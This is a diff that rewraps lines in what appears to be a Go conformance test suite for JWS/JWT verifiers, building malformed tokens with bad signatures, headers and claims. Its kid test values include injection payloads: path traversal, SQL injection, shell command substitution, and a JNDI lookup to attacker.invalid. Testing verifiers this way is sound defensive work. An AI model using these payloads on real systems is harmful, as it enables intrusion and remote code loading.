@@ -105,8 +105,10 @@ func (m *museum) confusedKeys() {
 	_, edKey, err := ed25519.GenerateKey(rand.Reader)
 	m.must(err)
 	input = m.input(with("alg", `"EdDSA"`))
-	m.token("EdDSA of a stranger with the issuer's kid", clause, badSignature, input+"."+encode(string(ed25519.Sign(edKey, []byte(input)))))
-	m.token("EdDSA with a signature as long as one of Ed448", clause, badSignature, input+"."+encode(strings.Repeat("\x01", 114)))
+	m.token("EdDSA of a stranger with the issuer's kid", clause, badSignature,
+		input+"."+encode(string(ed25519.Sign(edKey, []byte(input)))))
+	m.token("EdDSA with a signature as long as one of Ed448", clause, badSignature,
+		input+"."+encode(strings.Repeat("\x01", 114)))
 }
 
 // publicForms are the ways to write the issuer's public key that a confused verifier could take for a secret.
@@ -119,7 +121,8 @@ func (m *museum) publicForms() map[string][]byte {
 	set, err := jose.MarshalKeySet([]jose.PublicKey{{ID: m.issuer.public.ID, Algorithm: jose.ES256, Key: public}})
 	m.must(err)
 	return map[string][]byte{
-		"PEM": pem.EncodeToMemory(&pem.Block{Type: "PUBLIC KEY", Bytes: der}), "DER": der, "point": point, "x": point[1:33],
+		"PEM": pem.EncodeToMemory(&pem.Block{Type: "PUBLIC KEY", Bytes: der}), "DER": der, "point": point,
+		"x":       point[1:33],
 		"key set": set, "kid": []byte(m.issuer.public.ID), "empty": nil,
 	}
 }
@@ -192,7 +195,8 @@ func (m *museum) keysInHeader() {
 func (m *museum) critical() {
 	const clause = "RS-10: RFC 7515, Section 4.1.11"
 	for name, value := range sorted(map[string]string{
-		"crit that names what nobody knows": `["x"]`, "crit that is empty": "[]", "crit that names one twice": `["x","x"]`,
+		"crit that names what nobody knows": `["x"]`, "crit that is empty": "[]",
+		"crit that names one twice":           `["x","x"]`,
 		"crit that names a registered member": `["alg"]`, "crit that is a string": `"x"`, "crit that is null": "null",
 		"crit that names what is not there": `["y"]`, "crit with an element that is no string": "[1]",
 		"crit that names exp": `["exp"]`, "crit with the empty name": `[""]`,
@@ -203,7 +207,8 @@ func (m *museum) critical() {
 	m.header("b64 false without crit", detached, malformed, with("b64", "false"))
 	m.header("b64 true", detached, malformed, with("b64", "true"))
 	m.header("b64 false with crit", detached, malformed, with("b64", "false"), with("crit", `["b64"]`))
-	unencoded := encode(m.goodHeader().text([]edit{with("b64", "false"), with("crit", `["b64"]`)})) + "." + m.goodClaims().text(nil)
+	header := m.goodHeader().text([]edit{with("b64", "false"), with("crit", `["b64"]`)})
+	unencoded := encode(header) + "." + m.goodClaims().text(nil)
 	m.noToken("b64 false with crit, payload not encoded", detached, m.signed(unencoded))
 	for name, value := range sorted(map[string]string{
 		"zip": `"DEF"`, "enc": `"A256GCM"`, "epk": "{}", "cty": `"JWT"`,
@@ -225,7 +230,8 @@ func (m *museum) duplicates() {
 	m.header("unknown member twice in the header", clause, malformed, behind("x", "1"), behind("x", "1"))
 	m.header("member twice within a member of the header", clause, malformed, behind("x", `{"a":1,"a":1}`))
 	for name, value := range sorted(map[string]string{
-		"iss": `"https://other.example"`, "aud": `"https://other.example"`, "exp": "9999999999", "cnf": `{"x5t#S256":"x"}`,
+		"iss": `"https://other.example"`, "aud": `"https://other.example"`, "exp": "9999999999",
+		"cnf": `{"x5t#S256":"x"}`,
 		"sub": `"x"`, "client_id": `"x"`, "jti": `"x"`, "iat": "1", "\\u0065xp": "9999999999", "c\\u006ef": "{}",
 	}) {
 		m.claims("claim "+name+" twice, the bad one last", clause, malformedClaims, behind(name, value))
@@ -272,11 +278,13 @@ func (m *museum) keyIDs() {
 	const clause = "RS-22: RFC 7515, Section 4.1.4"
 	id := m.issuer.public.ID
 	for name, kid := range sorted(map[string]string{
-		"empty": "", "a path": "../../../../etc/passwd", "SQL": "' OR 1=1; --", "a URL": "https://attacker.invalid/keys",
+		"empty": "", "a path": "../../../../etc/passwd", "SQL": "' OR 1=1; --",
+		"a URL":     "https://attacker.invalid/keys",
 		"another's": m.stranger.public.ID, "in lower case": strings.ToLower(id), "with a space behind": id + " ",
 		"cut off": id[:42], "prolonged": id + "A", "NUL": `\u0000`, "with NUL behind": id + `\u0000`, "a wildcard": "*",
-		"of 256 bytes": strings.Repeat("k", 256), "a command": "`id`; $(id) | id", "a template": "${jndi:ldap://attacker.invalid}",
-		"new lines": `\r\nX: y`,
+		"of 256 bytes": strings.Repeat("k", 256), "a command": "`id`; $(id) | id",
+		"a template": "${jndi:ldap://attacker.invalid}",
+		"new lines":  `\r\nX: y`,
 	}) {
 		m.header("kid "+name, clause, unknownKey, with("kid", quote(kid)))
 	}
@@ -299,13 +307,15 @@ func (m *museum) signatures() {
 	der, err := asn1.Marshal(struct{ R, S *big.Int }{r, s})
 	m.must(err)
 	for name, signature := range sorted(map[string][]byte{
-		"r and s zero": raw(zero, zero), "r zero": raw(zero, s), "s zero": raw(r, zero), "r is n": raw(n, s), "s is n": raw(r, n),
+		"r and s zero": raw(zero, zero), "r zero": raw(zero, s), "s zero": raw(r, zero), "r is n": raw(n, s),
+		"s is n":      raw(r, n),
 		"r and s one": raw(big.NewInt(1), big.NewInt(1)), "r and s as high as can be": raw(highest, highest),
 		"r and s n - 1":              raw(new(big.Int).Sub(n, big.NewInt(1)), new(big.Int).Sub(n, big.NewInt(1))),
 		"r is p - n":                 raw(new(big.Int).Sub(elliptic.P256().Params().P, n), s),
 		"r and s in the other order": raw(s, r), "r of 33 bytes": append([]byte{0}, raw(r, s)...),
 		"s of 33 bytes": slices.Concat(raw(r, s)[:32], []byte{0}, raw(r, s)[32:]), "zero behind": append(raw(r, s), 0),
-		"numbers of 48 bytes": joined(48)(r, s), "in DER": der, "last byte missing": raw(r, s)[:63], "r only": raw(r, s)[:32],
+		"numbers of 48 bytes": joined(48)(r, s), "in DER": der, "last byte missing": raw(r, s)[:63],
+		"r only":   raw(r, s)[:32],
 		"one byte": {0}, "twice": append(raw(r, s), raw(r, s)...),
 	}) {
 		m.token("signature: "+name, clause, badSignature, input+"."+encode(string(signature)))
